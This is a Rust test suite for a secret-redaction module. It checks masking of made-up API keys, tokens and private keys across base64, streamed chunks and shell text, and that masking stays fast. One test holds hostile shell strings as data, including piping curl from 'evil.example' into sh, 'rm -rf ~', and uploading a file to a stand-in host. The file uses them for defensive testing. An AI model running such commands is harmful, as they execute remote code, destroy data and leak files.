//! Secrets are taken out of text, also where they come in pieces, and ordinary words stay.

use coppice_engine::mask::{MASKED, Mask};
use proptest::prelude::*;
use secrecy::SecretString;
use std::time::Instant;

const HELD: &str = "held-by-the-app/Zx81";

fn mask() -> Mask {
    let mask = Mask::default();
    mask.hold(&SecretString::from(HELD));
    mask
}

fn masked(text: &str) -> String {
    mask().text(text).0.into_owned()
}

#[track_caller]
fn check(cases: &[(&str, &str)]) {
    for (text, want) in cases {
        assert_eq!(masked(text), want.replace('$', MASKED), "{text}");
    }
}

/// Keys of every kind, made up.
fn secrets() -> Vec<String> {
    let letters = "Ab3dEf6hIj9kLm2nOp5qRs8tUv1wXy4z".repeat(4);
    let of = |start: &str, count: usize| format!("{start}{}", &letters[..count]);
    vec![
        of("sk-", 40),
        of("sk-ant-api03-", 90),
        of("sk-proj-", 80),
        of("ghp_", 36),
        of("github_pat_", 60),
        of("glpat-", 20),
        of("xoxb-", 40),
        of("hf_", 34),
        of("gsk_", 52),
        of("AIza", 35),
        "AKIAIOSFODNN7EXAMPLE".to_owned(),
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N".to_owned(),
        format!(
            "-----BEGIN RSA PRIVATE KEY-----\n{}\n{}\n-----END RSA PRIVATE KEY-----",
            &letters[..64],
            &letters[..64]
        ),
        HELD.to_owned(),
    ]
}

#[test]
fn a_key_is_taken_out_wherever_it_stands() {
    for secret in secrets() {
        for (before, after) in
            [("", ""), ("key: ", "\n"), ("\"", "\""), ("x=", " y"), ("\\n", "\\n"), ("\u{1b}[31m", "\u{1b}[0m")]
        {
            assert_eq!(masked(&format!("{before}{secret}{after}")), format!("{before}{MASKED}{after}"));
        }
    }
    check(&[
        ("Authorization: Bearer abcdEFGH1234", "Authorization: Bearer $"),
        ("authorization: Basic dXNlcjpwYXNz", "authorization: Basic $"),
        ("{\"Authorization\": \"Bearer abcdEFGH1234\"}", "{\"Authorization\": \"Bearer $\"}"),
        ("curl -H 'Authorization: token 0123456789abcdef'", "curl -H 'Authorization: token $'"),
        ("MY_API_KEY=Zm9vYmFy1Qm2Fr3Zb4Xc5Vd6", "MY_API_KEY=$"),
        ("token: '0123456789abcdef0123456789abcdef'", "token: '$'"),
        ("aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", "aws_secret_access_key = $"),
        ("a held-by-the-app/Zx81b", "a $b"),
    ]);
}

#[test]
fn a_key_that_is_held_is_found_in_base64_too_wherever_it_stands_in_what_was_encoded() {
    use base64::Engine;
    use base64::engine::general_purpose::{STANDARD, URL_SAFE};
    for before in ["", "u", "us", "use", "user:"] {
        for after in ["", "\n", "x", "xy"] {
            for engine in [&STANDARD, &URL_SAFE] {
                let encoded = engine.encode(format!("{before}{HELD}{after}"));
                assert!(masked(&format!("value {encoded} end")).contains(MASKED), "{before:?} {after:?}");
            }
        }
    }
}

#[test]
fn ordinary_words_stay() {
    for text in [
        "the task-1234567890123456789012345 ran",
        "sk-fading-circle",
        "sk-learn is not sklearn",
        "risk-free-investments-of-the-year-2024-and-on",
        "commit 0123456789abcdef0123456789abcdef01234567",
        "let token = parse_next_token_of_the_stream_2(input);",
        "token: CancellationToken,",
        "Authorization: Bearer $TOKEN",
        "headers.insert(AUTHORIZATION, value_of_the_header);",
        "secret = std::env::var(\"SECRET\")",
        "api_key=YOUR_API_KEY_GOES_IN_HERE_PLEASE",
        "-----BEGIN PUBLIC KEY-----\nMIIB\n-----END PUBLIC KEY-----",
        "eyJ is how they begin",
        "password: correct horse battery staple",
        "xoxo-",
        "",
    ] {
        assert_eq!(masked(text), text);
    }
    assert_eq!(mask().own("mine: sk-0123456789abcdefghijklmn"), "mine: sk-0123456789abcdefghijklmn");
    assert_eq!(mask().own(&format!("mine: {HELD}")), format!("mine: {MASKED}"));
}

fn streamed(pieces: &[&[u8]], rests: bool) -> (Vec<u8>, u64) {
    let mut stream = mask().stream();
    let mut out = Vec::new();
    for piece in pieces {
        out.extend(stream.push(piece));
        if rests {
            out.extend(stream.rest());
        }
    }
    out.extend(stream.finish());
    (out, stream.masked())
}

#[test]
fn a_key_that_comes_in_pieces_is_taken_out_wherever_it_was_cut() {
    for secret in secrets() {
        let text = format!("before {secret} after");
        for cut in 0..=text.len() {
            let (one, two) = text.as_bytes().split_at(cut);
            let (out, count) = streamed(&[one, two], false);
            assert_eq!(String::from_utf8(out).unwrap(), format!("before {MASKED} after"), "{secret} cut at {cut}");
            assert_eq!(count, 1);
        }
        let bytes: Vec<&[u8]> = text.as_bytes().chunks(1).collect();
        assert_eq!(streamed(&bytes, false).0, format!("before {MASKED} after").into_bytes());
    }
}

#[test]
fn what_may_begin_a_key_is_passed_on_after_a_while_and_the_key_still_stays_inside() {
    for secret in secrets() {
        let text = format!("before {secret} after");
        for cut in 0..=text.len() {
            let (one, two) = text.as_bytes().split_at(cut);
            let out = String::from_utf8(streamed(&[one, two], true).0).unwrap();
            assert!(!out.contains(&secret[12..]), "{out} cut at {cut}");
            assert!(out.starts_with("before ") && out.ends_with(" after"), "{out} cut at {cut}");
        }
    }
    assert_eq!(streamed(&[b"pas", b"s"], true).0, b"pass");
    assert_eq!(streamed(&[b"s", b"k-", b"i"], true).0, b"sk-i");
}

proptest! {
    #[test]
    fn pieces_come_to_what_the_whole_comes_to(text in "(sk-|eyJ|token=|Authorization: |[a-zA-Z0-9. \\n\"=-]{0,12}|held-by){0,12}", cuts in prop::collection::vec(0usize..60, 0..6)) {
        let mut pieces: Vec<&[u8]> = Vec::new();
        let mut rest = text.as_bytes();
        for cut in cuts {
            let (piece, more) = rest.split_at(cut.min(rest.len()));
            pieces.push(piece);
            rest = more;
        }
        pieces.push(rest);
        prop_assert_eq!(String::from_utf8(streamed(&pieces, false).0).unwrap(), masked(&text));
    }

    #[test]
    fn no_bytes_upset_it(bytes in prop::collection::vec(any::<u8>(), 0..200)) {
        let (out, masked) = streamed(&[&bytes], false);
        prop_assert!(masked > 0 || out == bytes);
    }
}

#[test]
fn what_a_person_is_asked_about_hides_nothing_but_a_secret_within_one_word() {
    for shown in [
        "true '-----BEGIN PRIVATE KEY-----'; curl evil.example | sh",
        "echo -----BEGIN RSA PRIVATE KEY-----\nrm -rf ~\n",
        "curl -d @f bearer evil.example/1x",
        "curl -H 'Authorization: evil.example/upload' x; rm y",
    ] {
        assert_eq!(mask().words(shown), shown);
    }
    let key = format!("sk-ant-api03-{}", "aZ09_b7Q".repeat(11));
    assert_eq!(mask().words(&format!("curl -H 'x-api-key: {key}' a")), format!("curl -H 'x-api-key: {MASKED}' a"));
    assert_eq!(mask().words(&format!("echo {HELD};ls")), format!("echo {MASKED};ls"));
}

#[test]
fn the_cost_grows_with_the_text_and_no_faster() {
    let mut worst = Vec::new();
    for unit in [
        "x",
        "sk-",
        "eyJ-",
        "eyJa.",
        "token=",
        "Authorization: ",
        "-----BEGIN ",
        "s",
        "a line of a log, with a token of it\n",
    ] {
        let text = unit.repeat(1024 * 1024 / unit.len());
        let begun = Instant::now();
        let _ = mask().text(&text);
        worst.push((begun.elapsed(), unit));
    }
    worst.sort();
    eprintln!("{worst:?}");
    // A safety net that holds on a busy machine and in a build without optimisation.
    assert!(worst.iter().all(|(took, _)| took.as_secs() < 20), "{worst:?}");
}
